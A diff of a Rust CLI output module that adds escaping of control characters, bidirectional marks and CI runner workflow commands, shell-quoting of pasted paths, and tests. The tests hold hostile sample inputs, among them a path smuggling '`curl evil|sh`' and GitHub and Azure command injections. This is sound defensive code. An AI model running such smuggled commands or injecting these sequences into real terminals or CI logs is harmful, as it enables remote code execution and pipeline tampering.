@@ -1,11 +1,14 @@
 //! What a person or a pipe sees: results on standard output, everything else on standard error. The main type is
 //! [`Complaint`].
 //!
-//! The only module that prints. A reader that went away (`matrix plan | head`) is not an error.
+//! The only module that prints, and so the one that sees to it that what comes from a host, an engine, a run directory or another
+//! user does nothing but be read ([`harmless`]). A reader that went away (`matrix plan | head`) is not an error.
 
 use std::{
     error::Error,
-    io::{self, BufWriter, Write},
+    fmt::Write as _,
+    io::{self, Write},
+    path::Path,
 };
 
 use annotate_snippets::Renderer;
@@ -13,7 +16,7 @@ use serde::Serialize;
 use serde_json::{Value, json};
 use workload::causes::with_causes;
 
-use crate::{exit::Exit, matrix_file::Diagnostics};
+use crate::{exit::Exit, host, matrix_file::Diagnostics};
 
 /// An error as a person gets it: what, because of what, what to do, and the exit code.
 #[derive(Debug)]
@@ -90,8 +93,79 @@ impl Complaint {
     }
 }
 
+/// A text that a terminal only shows and a CI system only records. Control characters, C1 among them, and what turns the direction
+/// of writing are spelt out. So that GitHub's and Azure's runners take no line for a command of theirs (`::set-output …` at a
+/// line's beginning, `##[…]` and `##vso[…]` anywhere in it), a space stands in it.
+#[must_use]
+pub fn harmless(text: &str) -> String {
+    let mut harmless = String::with_capacity(text.len());
+    for line in text.split_inclusive('\n') {
+        let begin = harmless.len();
+        for character in line.chars() {
+            match character {
+                '\n' | '\t' => harmless.push(character),
+                _ if is_unseen(character) => {
+                    let _ = write!(harmless, "{}", character.escape_unicode());
+                }
+                _ => harmless.push(character),
+            }
+        }
+        let shown = without_commands(harmless.get(begin..).unwrap_or_default());
+        harmless.truncate(begin);
+        harmless.push_str(&shown);
+    }
+    harmless
+}
+
+/// The same in one line.
+#[must_use]
+pub fn harmless_line(text: &str) -> String {
+    harmless(&text.replace('\n', "\\n"))
+}
+
+/// A path as a word of a command that a person pastes into a shell: what is not plain is quoted.
+#[must_use]
+pub fn pasted(path: &Path) -> String {
+    let text = path.to_string_lossy();
+    let plain = |it: char| it.is_ascii_alphanumeric() || "/._-+,:@%=".contains(it);
+    match !text.is_empty() && text.chars().all(plain) {
+        true => text.into_owned(),
+        false => host::quoted([path]),
+    }
+}
+
+fn is_unseen(character: char) -> bool {
+    character.is_control()
+        || matches!(character,
+            '\u{61c}' | '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{2028}' | '\u{2029}' | '\u{202a}'..='\u{202e}'
+            | '\u{2066}'..='\u{2069}' | '\u{feff}')
+}
+
+/// One line that no runner takes for a command.
+fn without_commands(line: &str) -> String {
+    let shown = line.replace("##[", "## [").replace("##vso[", "## vso[");
+    let words = shown.trim_start();
+    match words.strip_prefix("::") {
+        Some(rest) => {
+            let indent = shown.get(..shown.len() - words.len()).unwrap_or_default();
+            format!("{indent}: :{rest}")
+        }
+        None => shown,
+    }
+}
+
 /// Prints a result.
 pub fn result(text: &str) {
+    print(&harmless(text));
+}
+
+/// Prints a text of our own, as it is: a script for a shell, or lines that a CI system is to take for commands, in which what comes
+/// from elsewhere was escaped for that.
+pub fn verbatim(text: &str) {
+    print(text);
+}
+
+fn print(text: &str) {
     let mut out = io::stdout().lock();
     let _ = out
         .write_all(text.as_bytes())
@@ -101,25 +175,50 @@ pub fn result(text: &str) {
         });
 }
 
+/// JSON that a terminal only shows and a CI system only records, and that says the same. All that is not plain stands in strings,
+/// where JSON has an escape for each character.
+#[must_use]
+pub fn harmless_json(json: &str) -> String {
+    let mut harmless = String::with_capacity(json.len());
+    for character in json.chars() {
+        match character {
+            '\n' => harmless.push(character),
+            _ if is_unseen(character) => {
+                for unit in character.encode_utf16(&mut [0; 2]) {
+                    let _ = write!(harmless, "\\u{unit:04x}");
+                }
+            }
+            _ => harmless.push(character),
+        }
+    }
+    // `##` stands in strings alone, and the commands of runners begin with it. No line begins within a string.
+    harmless.replace("##", "#\\u0023")
+}
+
 /// Prints a result as JSON.
 pub fn json(value: &impl Serialize) {
-    let mut out = BufWriter::new(io::stdout().lock());
-    // As for any result: a reader that has gone wants no more.
-    let _ = serde_json::to_writer_pretty(&mut out, value)
-        .map_err(io::Error::from)
-        .and_then(|()| out.write_all(b"\n"));
+    // Our own values can always be written.
+    print(&harmless_json(
+        &serde_json::to_string_pretty(value).unwrap_or_default(),
+    ));
 }
 
 /// Prints a remark that is not a result.
 pub fn remark(text: &str) {
-    let _ = writeln!(io::stderr().lock(), "{text}");
+    let _ = writeln!(io::stderr().lock(), "{}", harmless(text));
 }
 
 /// Prints what is wrong with a file, in colours where standard error is a terminal and the environment does not say
-/// `NO_COLOR`.
+/// `NO_COLOR`. The renderer spells control characters out itself.
 pub fn mistakes(found: &Diagnostics) {
     let mut err = anstream::AutoStream::auto(io::stderr().lock());
-    let _ = writeln!(err, "{}", found.render(&Renderer::styled()).trim_end());
+    let rendered = found.render(&Renderer::styled());
+    let lines: String = rendered
+        .trim_end()
+        .split_inclusive('\n')
+        .map(without_commands)
+        .collect();
+    let _ = writeln!(err, "{lines}");
 }
 
 /// Prints an error.
@@ -130,5 +229,70 @@ pub fn complain(complaint: &Complaint) {
     }
     if let Some(hint) = &complaint.hint {
         remark(&format!("  hint: {hint}"));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[rstest::rstest]
+    #[case::plain("window 1 complete\n\tvalid – 3 µs", "window 1 complete\n\tvalid – 3 µs")]
+    #[case::title("\u{1b}]0;mine\u{7}x", "\\u{1b}]0;mine\\u{7}x")]
+    #[case::c1("\u{9b}31m", "\\u{9b}31m")]
+    #[case::carriage_return("ok\rno", "ok\\u{d}no")]
+    #[case::bidi("a\u{202e}b\u{2066}", "a\\u{202e}b\\u{2066}")]
+    #[case::command("::error::no", ": :error::no")]
+    #[case::command_in_the_second_line("x\n  ::set-output name=a::b", "x\n  : :set-output name=a::b")]
+    #[case::old_command("all is well ##[set-output name=a;]b", "all is well ## [set-output name=a;]b")]
+    #[case::azure("##vso[task.setvariable variable=a]b", "## vso[task.setvariable variable=a]b")]
+    #[case::address_of_ipv6("fe80::1 is a::b", "fe80::1 is a::b")]
+    #[case::heading("## Table I", "## Table I")]
+    fn a_text_from_elsewhere_only_shows(#[case] text: &str, #[case] shown: &str) {
+        assert_eq!(harmless(text), shown);
+    }
+
+    #[rstest::rstest]
+    #[case(
+        "/home/you/matrix/runs/20261123-035357-2d7d",
+        "/home/you/matrix/runs/20261123-035357-2d7d"
+    )]
+    #[case("/tmp/x`curl evil|sh`", "'/tmp/x`curl evil|sh`'")]
+    #[case("it's", r"'it'\''s'")]
+    fn a_path_in_a_hint_can_be_pasted(#[case] path: &str, #[case] word: &str) {
+        assert_eq!(pasted(Path::new(path)), word);
+    }
+
+    #[test]
+    fn one_line_stays_one() {
+        assert_eq!(harmless_line("a\n::error::b"), "a\\n::error::b");
+    }
+
+    #[test]
+    fn what_json_has_of_a_terminals_and_a_runners_is_escaped() {
+        let shown = harmless_json("{\"a\": \"\u{9b}31m ##[error] ###vso[ \u{202e}é\u{feff}\"}");
+        let escaped = r##"{"a": "\u009b31m #\u0023[error] #\u0023#vso[ \u202eé\ufeff"}"##;
+        assert_eq!(shown, escaped);
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn json_says_the_same_and_nothing_of_it_is_done(text in "(::|#|\\[|\\\\|\"|\\PC|\\p{Cc}|\u{202e}|\n){0,40}") {
+            let value = json!({"it": text, "list": [text]});
+            let shown = harmless_json(&serde_json::to_string_pretty(&value).unwrap());
+            proptest::prop_assert!(!shown.chars().any(|it| is_unseen(it) && it != '\n'), "{shown:?}");
+            proptest::prop_assert!(!shown.contains("##"), "{shown:?}");
+            proptest::prop_assert!(!shown.lines().any(|line| line.trim_start().starts_with("::")), "{shown:?}");
+            let read: Value = serde_json::from_str(&shown).unwrap();
+            proptest::prop_assert_eq!(read, value);
+        }
+
+        #[test]
+        fn whatever_it_is_nothing_of_it_is_done(text in "(::|##\\[|\\PC|\\p{Cc}|\n| ){0,40}") {
+            let shown = harmless(&text);
+            proptest::prop_assert!(!shown.chars().any(|it| is_unseen(it) && it != '\n' && it != '\t'));
+            proptest::prop_assert!(!shown.contains("##["));
+            proptest::prop_assert!(!shown.lines().any(|line| line.trim_start().starts_with("::")));
+        }
     }
 }
